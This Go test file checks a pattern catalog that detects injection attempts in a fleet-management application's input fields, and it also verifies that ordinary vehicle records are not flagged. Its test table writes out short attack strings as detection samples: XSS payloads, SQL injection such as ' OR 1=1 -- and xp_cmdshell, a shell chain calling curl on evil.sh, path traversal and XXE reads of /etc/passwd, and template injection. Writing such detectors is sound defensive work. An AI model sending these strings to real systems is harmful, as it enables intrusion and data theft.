package patterns

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func names(sigs []Signature) []string {
	out := make([]string, 0, len(sigs))
	for _, s := range sigs {
		out = append(out, s.Name)
	}
	return out
}

func TestBuiltinCompiles(t *testing.T) {
	c, err := Compile(Builtin())
	require.NoError(t, err)
	assert.NotEmpty(t, c.Signatures())
	assert.Contains(t, c.DangerousTags(), "iframe")
}

func TestCatalog_Match(t *testing.T) {
	c := Default()
	tests := []struct {
		name  string
		input string
		want  string
	}{
		{"script block", "<script>alert(1)</script>", "script_block"},
		{"event handler", `<img src=x onerror=alert(1)>`, "event_handler"},
		{"javascript uri", "javascript:alert(1)", "javascript_uri"},
		{"data uri", "data:text/html;base64,PHNjcmlwdD4=", "data_uri"},
		{"union select", "1 UNION ALL SELECT password", "sql_union_select"},
		{"quote tautology", "' OR 1=1 --", "sql_quote_tautology"},
		{"stacked query", "1; DROP TABLE vehicles", "sql_stacked"},
		{"shell chain", "plate && curl evil.sh", "cmd_chain"},
		{"subshell", "$(whoami)", "cmd_subshell"},
		{"traversal", "../../etc/passwd", "path_traversal"},
		{"mustache", "{{constructor.constructor('x')()}}", "template_mustache"},
		{"doctype", `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, "xml_doctype"},
		{"dangerous tag", `<iframe src="https://evil.example">`, "dangerous_tag"},
		{"dangerous attribute", `<div style="background:url(x)">`, "dangerous_attribute"},
		{"ddl glued to word", "JohnDROP TABLE users", "sql_ddl"},
		{"data uri glued to word", "abcdata:text/html;base64,xx", "data_uri"},
		{"procedure glued to digits", "12exec xp_cmdshell", "sql_procedure"},
		{"javascript glued to word", "x1javascript:void(0)", "javascript_uri"},
		{"union glued to word", "O'Brienunion select 1", "sql_union_select"},
		{"handler glued to word", "bonclick=run()", "event_handler"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Contains(t, names(c.Match(tt.input)), tt.want)
		})
	}
}

func TestCatalog_NoFalsePositivesOnFleetData(t *testing.T) {
	c := Default()
	inputs := []string{
		"O'Brien",
		"Replaced front tires and brake pads",
		"Toyota Corolla 1.8 Hybrid",
		"Fuel - Shell station, 45.30 EUR",
		"Driver called: one tire is flat",
		"Metadata: updated by fleet manager",
		"Delete the old invoice from the folder",
		"AB-123-CD",
	}
	for _, in := range inputs {
		assert.Empty(t, names(c.Match(in)), "unexpected match for %q", in)
	}
}

func TestCatalog_MatchSuspicious(t *testing.T) {
	c := Default()
	assert.Contains(t, names(c.MatchSuspicious("a < b")), "angle_bracket")
	assert.Contains(t, names(c.MatchSuspicious("window.location")), "global_object")
	assert.Contains(t, names(c.MatchSuspicious("eval (x)")), "call_like")
	assert.Empty(t, c.MatchSuspicious("O'Brien"))
	assert.Empty(t, c.MatchSuspicious(""))
}

func TestCatalog_Remove(t *testing.T) {
	c := Default()
	assert.Equal(t, "John", c.Remove("<script>alert(1)</script>John"))
	assert.Equal(t, "plain text", c.Remove("plain text"))
}

func TestCatalog_Extract(t *testing.T) {
	c := Default()
	got := c.Extract("x' OR 1=1 -- and <SCRIPT>")
	assert.Contains(t, got, "' or 1=1")
	assert.Contains(t, got, "<script>")
	assert.Nil(t, c.Extract(""))
}

func TestCompile_RejectsEmptyMatch(t *testing.T) {
	_, err := Compile(Definition{Signatures: []SignatureDef{{Name: "bad", Pattern: `a*`}}})
	assert.ErrorIs(t, err, ErrEmptyMatch)

	_, err = Compile(Definition{Signatures: []SignatureDef{{Name: "broken", Pattern: `(`}}})
	assert.Error(t, err)

	_, err = Compile(Definition{Signatures: []SignatureDef{{Pattern: `x`}}})
	assert.Error(t, err)
}

func TestMerge_ReplacesByName(t *testing.T) {
	base := Definition{
		Signatures:    []SignatureDef{{Name: "a", Category: CategorySQL, Pattern: "aaa"}},
		DangerousTags: []string{"script"},
	}
	extra := Definition{
		Signatures:    []SignatureDef{{Name: "a", Category: CategorySQL, Pattern: "bbb"}, {Name: "c", Category: CategoryXSS, Pattern: "ccc"}},
		DangerousTags: []string{"SCRIPT", "marquee"},
	}
	got := Merge(base, extra)
	require.Len(t, got.Signatures, 2)
	assert.Equal(t, "bbb", got.Signatures[0].Pattern)
	assert.Equal(t, []string{"script", "marquee"}, got.DangerousTags)
	// base untouched
	assert.Equal(t, "aaa", base.Signatures[0].Pattern)
}

func TestLoad_WithYAMLFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "extra.yaml")
	content := `
signatures:
  - name: fleet_magic
    category: sqli
    pattern: '(?i)\bmagic_drop\b'
dangerous_tags: [marquee]
`
	require.NoError(t, os.WriteFile(path, []byte(content), 0o600))

	c, err := Load(path)
	require.NoError(t, err)
	assert.Contains(t, names(c.Match("please MAGIC_DROP now")), "fleet_magic")
	assert.Contains(t, names(c.Match("<marquee>hi")), "dangerous_tag")

	_, err = Load(filepath.Join(dir, "missing.yaml"))
	assert.Error(t, err)
}
